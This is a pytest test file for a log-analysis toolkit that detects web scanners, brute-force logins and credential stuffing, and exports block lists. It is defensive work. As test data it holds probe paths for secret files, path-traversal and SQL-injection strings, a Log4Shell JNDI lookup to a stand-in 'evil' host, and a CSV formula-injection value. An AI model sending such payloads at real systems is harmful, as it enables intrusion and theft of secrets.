"""Security evidence: attackers flagged with the right reasons, heavy legitimate users not."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from irkit import schema
from irkit.analysis import security
from irkit.analysis.probes import match_probe
from irkit.analysis.useragents import classify
from irkit.engine.reduce import SECURITY_COLUMNS
from irkit.safety import FORMULA_PREFIXES
from irkit.schema import STRING, conform, validate

T0 = pd.Timestamp("2025-08-04T10:00:00Z")
CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/120.0.0.0 Safari/537.36")
GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
SAFARIS = [f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_{i}) AppleWebKit/605.1.15 (KHTML, "
           f"like Gecko) Version/17.{i} Safari/605.1.15" for i in range(25)]

SCANNER = "192.0.2.66"
BRUTE = "198.18.7.99"
NAT = "203.0.113.7"
CRAWLER = "66.249.66.1"


class Traffic:
    """Builds canonical events row by row (one log line per request unless told otherwise)."""

    def __init__(self, seed: int = 0) -> None:
        self.rng = np.random.default_rng(seed)
        self.rows: list[dict[str, object]] = []

    def add(self, ip: str | None, ua: str | None, path: str, status: int | None, t: pd.Timestamp,
            **extra: object) -> None:
        row = {"timestamp": t, "client_ip": ip, "user_agent": ua, "path": path,
               "route": extra.pop("route", path), "status_code": status,
               "method": extra.pop("method", "GET"), "bytes": extra.pop("bytes", 1500),
               "level": "info", "source": "edge",
               "request_id": extra.pop("request_id", f"req-{len(self.rows)}")}
        row.update(extra)
        self.rows.append(row)

    def at(self, lo_min: float = 0, hi_min: float = 120) -> pd.Timestamp:
        return T0 + pd.Timedelta(seconds=float(self.rng.uniform(lo_min * 60, hi_min * 60)))

    def events(self) -> pd.DataFrame:
        frame = conform(pd.DataFrame(self.rows))
        validate(frame)
        return frame


def normal_users(tr: Traffic, n: int = 150) -> None:
    for i in range(n):
        for _ in range(int(tr.rng.integers(2, 25))):
            status = 200 if tr.rng.random() > 0.04 else 404
            tr.add(f"198.51.100.{i}", CHROME, f"/products/{tr.rng.integers(80)}", status, tr.at())


def office_nat(tr: Traffic, n: int = 5000) -> None:
    """Many people behind one IP: many browser agents, busy, a normal share of typos at login."""
    pages = ["/", "/dashboard", "/api/items", "/api/login", "/settings"]
    for k in range(n):
        page = pages[int(tr.rng.integers(len(pages)))]
        status = 200
        if page == "/api/login" and tr.rng.random() < 0.12:
            status = 401
        elif tr.rng.random() < 0.03:
            status = 404
        path = page if page != "/api/items" else f"/api/items/{tr.rng.integers(400)}"
        tr.add(NAT, SAFARIS[k % len(SAFARIS)], path, status, tr.at(),
               method="POST" if page == "/api/login" else "GET")


def crawler(tr: Traffic, n: int = 2500) -> None:
    """A known bot fetching thousands of distinct pages, a few of them gone (404)."""
    for k in range(n):
        status = 200 if tr.rng.random() > 0.04 else 404
        tr.add(CRAWLER, GOOGLEBOT, f"/blog/post-{k}", status, tr.at(), route="/blog/[slug]")


PROBE_PATHS = ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/xmlrpc.php",
               "/static/..%2f..%2fetc/passwd", "/backup.zip", "/.aws/credentials",
               "/server-status", "/actuator/env"]


def scanner(tr: Traffic, ua: str = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
            ip: str = SCANNER) -> None:
    t = T0 + pd.Timedelta(minutes=25)
    for rep in range(2):
        for path in PROBE_PATHS + [f"/old/page{i}.html" for i in range(30)]:
            t += pd.Timedelta(milliseconds=float(tr.rng.uniform(200, 1500)))
            tr.add(ip, ua, path, 404, t, bytes=200, request_id=f"scan-{ip}-{rep}-{path}")


def brute_force(tr: Traffic, n: int = 200, ip: str = BRUTE) -> None:
    t = T0 + pd.Timedelta(minutes=95)
    for k in range(n):
        t += pd.Timedelta(milliseconds=float(tr.rng.uniform(200, 900)))
        tr.add(ip, "python-requests/2.31.0", "/api/login", 401 if k < n - 1 else 200, t,
               method="POST", bytes=90)


@pytest.fixture(scope="module")
def incident() -> pd.DataFrame:
    tr = Traffic(1)
    normal_users(tr)
    office_nat(tr)
    crawler(tr)
    scanner(tr)
    brute_force(tr)
    return tr.events()


# --- classification helpers ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("agent", "expected"),
    [
        ("sqlmap/1.7.2#stable (https://sqlmap.org)", ("scanner", "sqlmap")),
        ("Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/"
         "nuclei))", ("scanner", "nuclei")),
        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)", ("scanner", "nikto")),
        ("curl/8.4.0", ("tool", "curl")),
        ("python-requests/2.31.0", ("tool", "python-requests")),
        (GOOGLEBOT, ("bot", "Googlebot")),
        (CHROME, ("browser", "Chrome")),
        (None, ("none", None)),
    ],
)
def test_user_agent_classes(agent: str | None, expected: tuple[str, str | None]) -> None:
    assert classify(agent) == expected


@pytest.mark.parametrize(
    ("path", "target"),
    [
        ("/.env", "/.env"),
        ("/.env.production", "/.env"),
        ("/.git/config", "/.git/"),
        ("/wp-login.php", "/wp-login.php"),
        ("/phpmyadmin/index.php", "/phpmyadmin"),
        ("/static/..%2f..%2fetc/passwd", "path traversal"),
        ("/img/%252e%252e%252f%252e%252e%252fwin.ini", "path traversal"),
        ("/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users", "sql injection"),
        ("/x?a=${jndi:ldap://evil/a}", "log4shell / template injection"),
    ],
)
def test_probe_targets_are_recognised(path: str, target: str) -> None:
    found = match_probe(path)
    assert found is not None and found[0] == target


@pytest.mark.parametrize("path", ["/", "/admin", "/login", "/api/env", "/blog/dotenv-explained",
                                  "/downloads/app.zip", "/products/shoe-42?ref=home"])
def test_ordinary_paths_are_not_probes(path: str) -> None:
    assert match_probe(path) is None


# --- flagging -----------------------------------------------------------------------------------


def test_attackers_flagged_with_right_reasons(incident: pd.DataFrame) -> None:
    flagged = security.suspicious_clients(incident).set_index("client")
    assert SCANNER in flagged.index and BRUTE in flagged.index
    scan = set(flagged.loc[SCANNER, "reasons"])
    assert {"scanner_ua", "probe_paths", "error_storm"} <= scan
    assert "bruteforce" not in scan
    brute = set(flagged.loc[BRUTE, "reasons"])
    assert "bruteforce" in brute and "probe_paths" not in brute and "scanner_ua" not in brute
    assert flagged.loc[BRUTE, "requests"] == 200
    assert flagged.loc[BRUTE, "first_seen"] >= T0 + pd.Timedelta(minutes=95)
    assert len(flagged.loc[SCANNER, "details"]) == len(flagged.loc[SCANNER, "reasons"])


def test_heavy_legitimate_clients_not_flagged(incident: pd.DataFrame) -> None:
    prof = security.client_profiles(incident).set_index("client")
    # they are the two busiest clients by far, with high per-minute rates ...
    assert prof.loc[NAT, "requests"] > 10 * prof.loc[SCANNER, "requests"] / 2
    assert prof.loc[CRAWLER, "distinct_paths"] > 2000
    assert prof.loc[NAT, "ua_class"] == "browser" and prof.loc[NAT, "user_agents"] >= 20
    assert prof.loc[CRAWLER, "ua_class"] == "bot"
    # ... some failed logins behind the NAT ...
    assert prof.loc[NAT, "auth_failures"] > 20
    # ... yet neither is flagged, nor is any ordinary user
    flagged = set(prof.index[prof["flagged"]])
    assert flagged == {SCANNER, BRUTE}


def test_scanner_identified_by_behaviour_alone_with_browser_agent() -> None:
    tr = Traffic(2)
    normal_users(tr, 60)
    scanner(tr, ua=CHROME)
    flagged = security.suspicious_clients(tr.events()).set_index("client")
    assert list(flagged.index) == [SCANNER]
    assert "scanner_ua" not in flagged.loc[SCANNER, "reasons"]
    assert "probe_paths" in flagged.loc[SCANNER, "reasons"]


def test_scanner_agent_alone_is_enough() -> None:
    tr = Traffic(3)
    normal_users(tr, 40)
    tr.add("192.0.2.5", "sqlmap/1.7.2#stable (https://sqlmap.org)", "/products/3", 200, tr.at())
    flagged = security.suspicious_clients(tr.events()).set_index("client")
    assert flagged.loc["192.0.2.5", "reasons"] == ["scanner_ua"]


def test_rate_burst_alone_does_not_flag_but_supports() -> None:
    tr = Traffic(4)
    normal_users(tr, 60)
    # a sudden, clean burst of page views (a user's script, a load test): not an attack
    t = T0 + pd.Timedelta(minutes=10)
    for k in range(300):
        tr.add("192.0.2.20", CHROME, f"/products/{k % 50}", 200, t + pd.Timedelta(seconds=k / 5))
    for k in range(5):
        tr.add("192.0.2.20", CHROME, "/", 200, T0 + pd.Timedelta(minutes=40 + 10 * k))
    prof = security.client_profiles(tr.events()).set_index("client")
    assert prof.loc["192.0.2.20", "peak_per_min"] >= 250
    assert prof.loc["192.0.2.20", "burst_own_ratio"] >= security.MIN_BURST_OWN_RATIO
    assert not prof.loc["192.0.2.20", "flagged"]
    # the same burst made of 404s is flagged, with the burst as reason
    tr2 = Traffic(4)
    normal_users(tr2, 60)
    for k in range(300):
        tr2.add("192.0.2.21", CHROME, f"/p{k % 5}", 404, t + pd.Timedelta(seconds=k / 5))
    prof2 = security.client_profiles(tr2.events()).set_index("client")
    assert prof2.loc["192.0.2.21", "flagged"]
    assert "burst" in prof2.loc["192.0.2.21", "reasons"]


def test_waf_actions_flag_and_are_listed() -> None:
    tr = Traffic(5)
    normal_users(tr, 30)
    for k in range(6):
        action = "deny" if k % 2 else "challenge"
        tr.add("192.0.2.77", CHROME, f"/api/items/{k}", 403, tr.at(), waf_action=action)
    tr.add("198.51.100.3", CHROME, "/", 200, tr.at(), waf_action="log")
    ev = tr.events()
    flagged = security.suspicious_clients(ev).set_index("client")
    assert list(flagged.index) == ["192.0.2.77"]
    assert "waf" in flagged.loc["192.0.2.77", "reasons"]
    waf = security.waf_actions(ev)
    got = {(r.client_ip, r.waf_action): r.requests for r in waf.itertuples()}
    assert got == {("192.0.2.77", "deny"): 3, ("192.0.2.77", "challenge"): 3,
                   ("198.51.100.3", "log"): 1}


def test_fingerprint_links_rotating_ips() -> None:
    ja4 = "t13d1516h2_8daaf6152771_02713d6af862"
    tr = Traffic(6)
    normal_users(tr, 40)
    scanner(tr)
    for row in tr.rows:
        if row["client_ip"] == SCANNER:
            row["ja4"] = ja4
    # the same tool from another IP, only a few requests: under every threshold by itself
    for path in ("/.env", "/robots.txt"):
        tr.add("192.0.2.200", CHROME, path, 404, tr.at(), ja4=ja4)
    ev = tr.events()
    flagged = security.suspicious_clients(ev).set_index("client")
    assert flagged.loc["192.0.2.200", "reasons"] == ["fingerprint"]
    by_print = security.client_profiles(ev, key="ja4").set_index("client")
    assert by_print.loc[ja4, "requests"] == 2 * (len(PROBE_PATHS) + 30) + 2


def test_log_lines_of_one_request_are_merged() -> None:
    tr = Traffic(7)
    for k in range(15):
        rid = f"r{k}"
        t = T0 + pd.Timedelta(seconds=k)
        tr.add(BRUTE, "curl/8.4.0", "/api/login", 401, t, request_id=rid, method="POST")
        tr.add(BRUTE, "curl/8.4.0", "/api/login", None, t + pd.Timedelta(milliseconds=5),
               request_id=rid, method="POST", message="login failed")
    req = security.requests_table(tr.events())
    assert len(req) == 15 and (req["status_code"] == 401).all()
    fails = security.auth_failures(tr.events()).set_index("client_ip")
    assert fails.loc[BRUTE, "failures"] == 15 and fails.loc[BRUTE, "bruteforce"]


# --- tables -------------------------------------------------------------------------------------


def test_scanner_paths_grouped_and_counted(incident: pd.DataFrame) -> None:
    paths = security.scanner_paths(incident).set_index("target")
    assert paths.loc["/.env", "requests"] == 2
    assert paths.loc["/.env", "clients"] == 1
    assert paths.loc["path traversal", "category"] == "traversal"
    assert paths.loc["/.git/", "statuses"] == "404×2"
    assert "/blog/post-1" not in " ".join(paths["examples"])
    assert paths["requests"].sum() == 2 * len(PROBE_PATHS)


def test_auth_failures_and_site_bursts(incident: pd.DataFrame) -> None:
    fails = security.auth_failures(incident).set_index("client_ip")
    assert fails.loc[BRUTE, "bruteforce"] and not fails.loc[NAT, "bruteforce"]
    assert fails.loc[BRUTE, "failures"] == 199
    bursts = security.auth_failure_bursts(incident)
    burst_times = bursts.loc[bursts["burst"], "time"]
    assert len(burst_times) >= 1
    assert (burst_times >= T0 + pd.Timedelta(minutes=95)).all()


def test_credential_stuffing_shows_as_site_burst() -> None:
    tr = Traffic(8)
    normal_users(tr, 50)
    t = T0 + pd.Timedelta(minutes=50)
    for k in range(80):  # 80 IPs, 2 failures each, within two minutes
        for j in range(2):
            tr.add(f"100.64.{k // 200}.{k % 200}", CHROME, "/api/login", 401,
                   t + pd.Timedelta(seconds=float(k) + j / 2), method="POST")
    ev = tr.events()
    assert security.suspicious_clients(ev).empty
    bursts = security.auth_failure_bursts(ev)
    assert bursts["burst"].any()
    assert bursts.loc[bursts["burst"], "clients"].max() >= 40


def test_data_access_lists_2xx_routes_with_bytes(incident: pd.DataFrame) -> None:
    tr = Traffic(9)
    scanner(tr)
    tr.add(SCANNER, CHROME, "/api/export/users.csv", 200, tr.at(), bytes=5_000_000,
           route="/api/export/[file]")
    tr.add(SCANNER, CHROME, "/api/export/orders.csv", 200, tr.at(), bytes=1_000,
           route="/api/export/[file]")
    tr.add("198.51.100.1", CHROME, "/api/export/all.csv", 200, tr.at(), bytes=9)
    access = security.data_access(tr.events(), security.suspicious_clients(tr.events()))
    assert list(access["route"]) == ["/api/export/[file]"]
    assert access.loc[0, "bytes"] == 5_001_000 and access.loc[0, "requests"] == 2
    assert security.data_access(incident, [BRUTE])["requests"].sum() == 1


# --- block list ---------------------------------------------------------------------------------


def test_blocklist_ips_and_cidr_aggregation(tmp_path: Path) -> None:
    tr = Traffic(10)
    normal_users(tr, 30)
    for i in (10, 11, 12):
        scanner(tr, ip=f"192.0.2.{i}")  # three flagged IPs in one /24, nobody else there
    brute_force(tr, ip="2001:db8:1::5")
    scanner(tr, ip="198.51.100.250")  # flagged, but its /24 holds ordinary users
    tr.add("not-an-ip", "sqlmap/1.7", "/", 200, tr.at())
    block = security.blocklist(tr.events()).set_index("entry")
    assert block.loc["192.0.2.0/24", "kind"] == "cidr"
    assert block.loc["192.0.2.0/24", "addresses"].split() == ["192.0.2.10", "192.0.2.11",
                                                               "192.0.2.12"]
    assert block.loc["2001:db8:1::5", "kind"] == "ip"
    assert "bruteforce" in block.loc["2001:db8:1::5", "reasons"].split(";")
    assert block.loc["198.51.100.250", "kind"] == "ip"
    assert "not-an-ip" not in block.index
    assert set(block.index) == {"192.0.2.0/24", "2001:db8:1::5", "198.51.100.250"}

    paths = security.export_blocklist(block.reset_index(), tmp_path / "out")
    assert [p.name for p in paths] == ["blocklist.csv", "blocklist.json"]
    doc = json.loads(paths[1].read_text())
    entries = {e["entry"]: e for e in doc["entries"]}
    assert entries["192.0.2.0/24"]["addresses"] == ["192.0.2.10", "192.0.2.11", "192.0.2.12"]
    assert entries["2001:db8:1::5"]["first_seen"].startswith("2025-08-04T11:35")
    rows = list(csv.DictReader(paths[0].open(newline="")))
    assert {r["entry"] for r in rows} == set(entries)


def test_blocklist_csv_neutralises_formulas(tmp_path: Path) -> None:
    frame = pd.DataFrame({"entry": ["192.0.2.1"], "kind": ["ip"], "addresses": ["192.0.2.1"],
                          "reasons": ["scanner_ua"], "requests": [3],
                          "first_seen": [T0], "last_seen": [T0],
                          "details": ["=cmd|' /C calc'!A0"]})
    csv_path, _ = security.export_blocklist(frame, tmp_path)
    for row in csv.reader(csv_path.open(newline="")):
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES)


def test_empty_and_quiet_inputs() -> None:
    tr = Traffic(11)
    normal_users(tr, 20)
    ev = tr.events()
    assert security.suspicious_clients(ev).empty
    assert security.scanner_paths(ev).empty
    assert security.blocklist(ev).empty
    found = security.security_findings(conform({}))
    assert found["suspicious_ips"] == [] and found["scanner_paths"] == []
    json.dumps(security.security_findings(ev))


def test_security_findings_shape(incident: pd.DataFrame) -> None:
    found = security.security_findings(incident)
    json.dumps(found)  # plain JSON types only
    ips = [s["ip"] for s in found["suspicious_ips"]]
    assert set(ips) == {SCANNER, BRUTE}
    for item in found["suspicious_ips"]:
        assert set(item) >= {"ip", "requests", "reasons"}
        assert item["requests"] > 0 and item["reasons"]
    targets = {p["target"] for p in found["scanner_paths"]}
    assert {"/.env", "/.git/", "/wp-login.php"} <= targets
    assert found["auth_failures"]["total"] >= 199


# --- the generated demo incident ----------------------------------------------------------------


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> tuple[pd.DataFrame, dict[str, object]]:
    demo_mod = pytest.importorskip("irkit.demo")
    sources = pytest.importorskip("irkit.sources")
    incident = demo_mod.generate(tmp_path_factory.mktemp("demo"), seed=3, events=20_000)
    return sources.load(incident.logs), incident.truth


@pytest.mark.xdist_group("security-demo")
def test_demo_attackers_flagged_and_heavy_users_not(
    demo: tuple[pd.DataFrame, dict[str, object]],
) -> None:
    events, truth = demo
    prof = security.client_profiles(events).set_index("client")
    for ip in truth["scanner_ips"]:
        assert {"scanner_ua", "probe_paths"} <= set(prof.loc[ip, "reasons"]), ip
    for ip in truth["bruteforce_ips"]:
        assert "bruteforce" in prof.loc[ip, "reasons"], ip
    heavy = list(truth["benign_heavy_ips"])
    assert heavy and not prof.loc[heavy, "flagged"].any()
    # the heavy users are heavy: busier than every attacker
    assert prof.loc[heavy, "requests"].min() > prof.loc[truth["attacker_ips"], "requests"].max()
    assert set(prof.index[prof["flagged"]]) == set(truth["attacker_ips"])


@pytest.mark.xdist_group("security-demo")
def test_demo_findings_blocklist_and_data_access(
    demo: tuple[pd.DataFrame, dict[str, object]], tmp_path: Path,
) -> None:
    events, truth = demo
    found = security.security_findings(events)
    assert {s["ip"] for s in found["suspicious_ips"]} == set(truth["attacker_ips"])
    assert any(p["target"] == "/.env" for p in found["scanner_paths"])
    block = security.blocklist(events)
    assert set(block["entry"]) == set(truth["attacker_ips"])
    csv_path, json_path = security.export_blocklist(block, tmp_path)
    header = next(csv.reader(csv_path.open(newline="")))
    assert header[:4] == ["entry", "kind", "addresses", "reasons"]
    assert {e["entry"] for e in json.loads(json_path.read_text())["entries"]} == set(
        truth["attacker_ips"])
    access = security.data_access(events, truth["attacker_ips"])
    # the brute-forcer never got in and the scanner only ever saw 404/403
    assert access.empty


# --- categorical input (the out-of-core engine's compact security rows) -------------------------


def _as_strings(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with categorical columns back as canonical strings (to compare pass-through)."""
    cats = [c for c in frame.columns if isinstance(frame[c].dtype, pd.CategoricalDtype)]
    return frame.astype(dict.fromkeys(cats, STRING))


def _scrambled(frame: pd.DataFrame) -> pd.DataFrame:
    """Categories in reverse order plus an unused one: answers must not depend on either."""
    out = frame.copy()
    for name in out.columns:
        if isinstance(out[name].dtype, pd.CategoricalDtype):
            cats = out[name].cat
            out[name] = cats.reorder_categories(cats.categories[::-1]).cat.add_categories(
                ["~unused"])
    return out


def _assert_same_on_categoricals(events: pd.DataFrame, ips: list[str]) -> set[str]:
    """Every public function of ``security`` answers the same for compacted input.

    Compared exactly: values, row order and dtypes.  Only ``requests_table`` passes the input's
    categorical columns through (that is its memory saving), so its frame is compared with those
    columns cast back; its derived columns must match as they are.  Returns the names of the
    functions that answered with a non-empty frame (an empty one compares little).
    """
    plain = events[list(SECURITY_COLUMNS)]
    compact = schema.compact(plain)
    assert any(isinstance(d, pd.CategoricalDtype) for d in compact.dtypes)
    frames = {
        "client_profiles": lambda ev: security.client_profiles(ev),
        "client_profiles ja4": lambda ev: security.client_profiles(ev, key="ja4"),
        "client_profiles ja3": lambda ev: security.client_profiles(ev, key="ja3"),
        "suspicious_clients": lambda ev: security.suspicious_clients(ev),
        "scanner_paths": security.scanner_paths,
        "auth_failures": security.auth_failures,
        "auth_failure_bursts": security.auth_failure_bursts,
        "waf_actions": security.waf_actions,
        "data_access": lambda ev: security.data_access(ev, ips),
        "blocklist": security.blocklist,
        "blocklist plain": lambda ev: security.blocklist(ev, aggregate=False),
    }
    expected = {name: run(plain) for name, run in frames.items()}
    req = security.requests_table(plain)
    derived = [c for c in req.columns if c not in SECURITY_COLUMNS]
    findings = security.security_findings(plain)
    for variant in (compact, _scrambled(compact)):
        got = security.requests_table(variant)
        pd.testing.assert_frame_equal(got[derived], req[derived])
        pd.testing.assert_frame_equal(_as_strings(got), _as_strings(req))
        for name, run in frames.items():
            got = run(variant)
            assert not any(isinstance(d, pd.CategoricalDtype) for d in got.dtypes), name
            pd.testing.assert_frame_equal(got, expected[name], obj=name)
        assert security.security_findings(variant) == findings
    return {name for name, frame in expected.items() if not frame.empty}


def _mixed_traffic() -> pd.DataFrame:
    """A small incident with what the demo lacks: merged log lines, JA4/JA3, WAF actions."""
    ja4, ja3 = "t13d1516h2_8daaf6152771_02713d6af862", "e7d705a3286e19ea42f587b344ee6865"
    tr = Traffic(12)
    normal_users(tr, 40)
    scanner(tr)
    brute_force(tr, 60)
    for row in tr.rows:
        if row["client_ip"] in (SCANNER, BRUTE):
            row.update(ja4=ja4, ja3=ja3)
    for path in ("/.env", "/robots.txt", "/.git/config"):
        tr.add("192.0.2.200", CHROME, path, 404, tr.at(), ja4=ja4, query="a=1")
    for k in range(6):
        tr.add("192.0.2.77", None, f"/api/items/{k}", 403, tr.at(),
               waf_action="DENY" if k % 2 else "challenge", route=None)
    for k in range(12):
        t = T0 + pd.Timedelta(seconds=k)
        tr.add("192.0.2.9", "curl/8.4.0", "/api/login", 401, t, request_id=f"m{k}")
        tr.add("192.0.2.9", None, "/api/login", None, t, request_id=f"m{k}", method=None,
               message="login failed")
    return tr.events()


@pytest.mark.xdist_group("security-demo")
def test_categorical_input_gives_the_same_answers(
    demo: tuple[pd.DataFrame, dict[str, object]],
) -> None:
    events, truth = demo
    heavy = list(truth["benign_heavy_ips"])
    answered = _assert_same_on_categoricals(events, [*truth["attacker_ips"], *heavy])
    assert {"scanner_paths", "auth_failures", "waf_actions", "data_access"} <= answered
    answered |= _assert_same_on_categoricals(_mixed_traffic(), [SCANNER, BRUTE, "198.51.100.3"])
    assert len(answered) == 11
